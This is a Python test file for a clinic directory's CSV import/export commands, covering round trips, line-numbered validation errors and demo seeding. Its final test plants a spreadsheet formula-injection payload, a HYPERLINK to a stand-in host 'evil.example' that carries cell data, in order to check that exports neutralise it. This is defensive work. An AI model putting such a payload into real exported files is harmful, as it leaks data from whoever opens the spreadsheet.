"""`flask clinics import|export` (the CSV round trip, line-numbered errors) and `seed-demo`."""

import csv

import sqlalchemy as sa

from accounts.models import User
from clinics.models import Clinic
from clinics.services import clinic_to_dict
from core.extensions import db
from tests.support.factories import DHAKA_POINT

COMPARED = (
    "name", "sms_alias", "district", "area", "address", "latitude", "longitude", "phone",
    "services", "attributes", "hours", "status", "verified_at",
)  # fmt: skip


def snapshot() -> list[dict]:
    db.session.expire_all()
    clinics = db.session.scalars(sa.select(Clinic).order_by(Clinic.name)).all()
    return [{k: clinic_to_dict(c)[k] for k in COMPARED} for c in clinics]


def make_directory(clinic):
    clinic(
        name="Alpha Centre",
        sms_alias="Alpha Point",
        area="Tejgaon",
        address='House 5, "Green" Road, Dhaka',
        latitude=DHAKA_POINT[0],
        longitude=DHAKA_POINT[1],
        phone="01711000111",
        services=["prep", "sti"],
        attributes=["walk_in", "no_id_required"],
        hours={"fri": [["20:00", "02:00"]], "mon": [["09:00", "13:00"], ["14:00", "17:00"]]},
    )
    clinic(name="Beta Centre", sms_alias="শাপলা ঘর", district="Sylhet", status="inactive")
    clinic(name="Gamma Centre", verified=False, hours={"sun": [["00:00", "24:00"]]})


def test_export_then_import_restores_the_directory(runner, clinic, tmp_path):
    make_directory(clinic)
    before = snapshot()
    path = tmp_path / "clinics.csv"
    result = runner.invoke(args=["clinics", "export", str(path)])
    assert result.exit_code == 0, result.output
    assert "exported 3 clinics" in result.output
    # Change everything, then import: the rows name existing ids, so they are updated back.
    for c in db.session.scalars(sa.select(Clinic)):
        c.name, c.phone, c.hours, c.status = c.name + " X", None, {}, "active"
    db.session.commit()
    result = runner.invoke(args=["clinics", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "0 created, 3 updated" in result.output
    assert snapshot() == before


def test_import_into_an_empty_directory_gives_the_same_directory(runner, clinic, tmp_path):
    make_directory(clinic)
    before = snapshot()
    path = tmp_path / "clinics.csv"
    runner.invoke(args=["clinics", "export", str(path)])
    db.session.execute(sa.delete(Clinic))
    db.session.commit()
    result = runner.invoke(args=["clinics", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "3 created" in result.output
    assert snapshot() == before
    # And the search sees the imported hours (the SQL ranges were rebuilt).
    from clinics.services import search_clinics
    from tests.support.clock import local

    assert [h.clinic.name for h in search_clinics(open_at=local("sat", "01:00")).items] == [
        "Alpha Centre"
    ]


def write(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        for row in rows:
            writer.writerow(row)


OVERLAP = "mon=09:00-12:00,11:00-13:00"
HEADER = ["id", "name", "sms_alias", "district", "latitude", "longitude", "services", "hours"]


def test_errors_are_reported_by_line_and_nothing_is_written(runner, catalogue, tmp_path):
    path = tmp_path / "bad.csv"
    write(
        path,
        [
            HEADER,
            ["", "Good Centre", "Good Point", "Dhaka", "23.8", "90.4", "sti;prep", ""],
            ["", "Far Centre", "Far Point", "Dhaka", "48.8", "2.3", "sti", ""],
            ["", "Odd Centre", "HIV Point", "Atlantis", "", "", "astrology", OVERLAP],
            ["", "Late Centre", "Late Point", "Comilla", "", "", "", "fri=25:00-02:00"],
        ],
    )  # fmt: skip
    result = runner.invoke(args=["clinics", "import", str(path)])
    assert result.exit_code != 0
    output = result.output
    assert "line 3: latitude" in output
    assert "line 4: sms_alias" in output and "line 4: district" in output
    assert "line 4: services" in output and "line 4: hours" in output
    assert "line 5: hours" in output
    assert "nothing was imported" in output
    assert db.session.scalar(sa.select(sa.func.count(Clinic.id))) == 0


def test_skip_invalid_writes_the_good_rows(runner, catalogue, tmp_path):
    path = tmp_path / "mixed.csv"
    write(
        path,
        [
            HEADER,
            ["", "Good Centre", "Good Point", "Chittagong", "22.3", "91.8", "sti", ""],
            ["", "Bad Centre", "Bad Point", "Atlantis", "", "", "", ""],
        ],
    )
    result = runner.invoke(args=["clinics", "import", str(path), "--skip-invalid"])
    assert result.exit_code == 0, result.output
    assert "1 created, 0 updated, 1 skipped" in result.output
    assert "line 3: district" in result.output
    assert db.session.scalars(sa.select(Clinic.district)).all() == ["Chattogram"]


def test_bad_header_is_refused(runner, catalogue, tmp_path):
    path = tmp_path / "header.csv"
    write(path, [["name", "alias", "district"], ["A", "B", "Dhaka"]])
    result = runner.invoke(args=["clinics", "import", str(path)])
    assert result.exit_code != 0 and "line 1" in result.output


def test_seed_demo_puts_the_clinic_partner_in_a_real_clinic(runner, app):
    result = runner.invoke(args=["seed-demo"])
    assert result.exit_code == 0, result.output
    assert "Clinics: 36 created" in result.output
    partner = db.session.scalar(sa.select(User).where(User.role == "clinic_partner"))
    clinic = db.session.get(Clinic, partner.clinic_id)
    assert clinic.name != "Demo clinic" and clinic.services
    result = runner.invoke(args=["seed-demo"])
    assert result.exit_code == 0 and "0 created, 36 updated" in result.output
    assert db.session.scalar(sa.select(sa.func.count(Clinic.id))) == 36


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def test_export_quotes_formulas_and_import_restores_them(runner, clinic, tmp_path):
    clinic(
        name=FORMULA_NAME,
        sms_alias="Kadam Ghar",
        area="-Mirpur",
        address="@SUM(1+1) House 5",
        phone="01711000111",
    )
    clinic(name="'=Quoted Centre", sms_alias="Beli Point", address="'plain")
    before = snapshot()
    path = tmp_path / "clinics.csv"
    assert runner.invoke(args=["clinics", "export", str(path)]).exit_code == 0
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_alias = {row["sms_alias"]: row for row in rows}
    formula = by_alias["Kadam Ghar"]
    assert formula["name"] == "'" + FORMULA_NAME
    assert formula["area"] == "'-Mirpur"
    assert formula["address"] == "'@SUM(1+1) House 5"
    assert formula["phone"] == "'+8801711000111"
    # A leading ' of the data itself is doubled, so the import can tell it from ours.
    assert by_alias["Beli Point"]["name"] == "''=Quoted Centre"
    assert by_alias["Beli Point"]["address"] == "''plain"
    no_cell_runs = [v for row in rows for v in row.values() if v[:1] in "=+-@\t\r" and v]
    assert no_cell_runs == []
    db.session.execute(sa.delete(Clinic))
    db.session.commit()
    result = runner.invoke(args=["clinics", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert snapshot() == before
